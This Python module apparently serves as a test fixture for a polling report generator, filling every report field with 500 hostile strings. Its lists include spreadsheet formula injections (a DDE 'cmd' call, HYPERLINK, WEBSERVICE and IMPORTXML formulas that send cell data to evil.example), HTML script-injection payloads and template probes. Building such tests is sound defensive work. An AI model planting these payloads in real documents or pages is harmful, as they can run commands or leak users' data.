"""Five hundred texts that could make another person's program do something when typed."""

from dataclasses import replace
from itertools import islice, product

from polling.report.data.people_data import Breakdown, Cell
from polling.report.data.report_data import (
    AgendaSession,
    Issue,
    Recommendation,
    Report,
    Survey,
    Theme,
)
from polling.report.data.vote_data import ContestStanding, Share, Vote
from polling.report.options import ReportProse
from polling.survey.question_types.base import AnswerOption, QuestionTally, QuestionView
from polling.survey.questions import Question

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "DDE",
]
MARKUP = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "</style><script>pwned()</script>",
    '"><script>pwned()</script>',
    "<a href=javascript:pwned()>x</a>",
    "<body onload=pwned()>",
    "<!-- --><script>pwned()</script>",
    "<style>*{display:none}</style>",
    "<form action=http://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${7*7}",
    "]]><script>pwned()</script>",
    "<math><mi xlink:href=javascript:pwned()>x</mi></math>",
    "<base href=http://evil.example>",
]
MARKDOWN = [
    "[x](javascript:pwned())",
    "![x](http://evil.example/x.png)",
    "[x]: javascript:pwned()",
    "<javascript:pwned()>",
    "<http://evil.example>",
    "http://evil.example",
    "www.evil.example",
    "# heading",
    "- point",
    "1. point",
    "> quotation",
    "```\ncode",
    "    code",
    "* * *",
    "===",
    "---",
    "| a | b |\n| --- | --- |",
    "**bold** _it_ `code` ~~no~~",
    "\\",
    "[x][y] [^1]",
]
FRAMES = [
    "{}",
    " {}",
    "\n{}",
    "a {}",
    "{} a",
    "**{}**",
    "`{}`",
    "| {}",
    "a\n\n{}",
]


def hostile_texts() -> list[str]:
    """Each text in every frame: 540, of which five hundred."""
    texts = FORMULAS + MARKUP + MARKDOWN
    framed = (frame.format(text) for frame, text in _pairs(FRAMES, texts))
    return list(islice(framed, 500))


def _pairs(frames: list[str], texts: list[str]) -> list[tuple[str, str]]:
    return [(frame.replace("{}", "{0}"), text) for frame, text in product(frames, texts)]


def hostile_report(report: Report, texts: list[str]) -> Report:
    """A report with every text in every text field."""
    together = "\n\n".join(texts)
    return replace(
        report,
        title=texts[0],
        subtitle=texts[1],
        event=texts[2],
        place=texts[3],
        dates=texts[4],
        prose=ReportProse(
            **dict.fromkeys(ReportProse.model_fields, together[:10_000]),
        ),
        breakdowns=[Breakdown(text, text, cells, cells) for text, cells in _cells(texts)],
        sittings=[_sitting(text) for text in texts],
        themes=[_theme(text) for text in texts],
        survey=Survey(Share(8, 12), [tally for text in texts for tally in _tallies(text)], 0),
    )


def _cells(texts: list[str]) -> list[tuple[str, list[Cell]]]:
    return [(text, [Cell(text, 9, 100)]) for text in texts]


def _sitting(text: str) -> AgendaSession:
    return AgendaSession(text, text, text, text, text, text, [text, text], text)


def _theme(text: str) -> Theme:
    standing = ContestStanding(rank=1, score=3, support=Share(2, 3), first=1, made_cut=True)
    vote = Vote(
        id="0",
        kind="ranking",
        theme=text,
        rule="top-three",
        most=3,
        places=1,
        turnout=Share(3, 4),
        abstained=0,
        said=[text],
        decision=text,
        hashes=["0" * 64],
        hash="0" * 64,
        standings=[(text, standing)],
    )
    written = Recommendation(
        actors=(text, text),
        action=text,
        by=text,
        rationale=text,
        text=text,
        group=1,
        standing=standing,
    )
    issue = Issue(text, text, [text], 1, standing, [written])
    voted = [(text, replace(standing, first=None))]
    return Theme(text, text, text, [issue], vote, replace(vote, kind="final", standings=voted))


def _tallies(text: str) -> list[QuestionTally]:
    name = text[:200]
    ends = {"scale": 2, "min_label": text[:60], "max_label": text[:60]}
    scale = Question(key="a", type="scale", text="?").model_copy(update=ends)
    single = Question(key="b", type="single", text=text[:300] or "?")
    return [
        QuestionTally(
            QuestionView(scale, [AnswerOption("1", "1", "1"), AnswerOption("2", "2", "2")]),
            5,
            {"1": 5},
        ),
        QuestionTally(QuestionView(single, [AnswerOption(name, name, text)]), 5, {name: 5}),
        QuestionTally(
            QuestionView(single.model_copy(update={"type": "text"}), []),
            5,
            texts=[text],
            tags={text: [text[:60]]},
        ),
        *(
            QuestionTally(
                QuestionView(
                    single.model_copy(update={"type": kind, **ends}),
                    [AnswerOption(name, name, text)],
                ),
                5,
                grid={name: {"1": 5}},
            )
            for kind in ("ranking", "matrix")
        ),
    ]
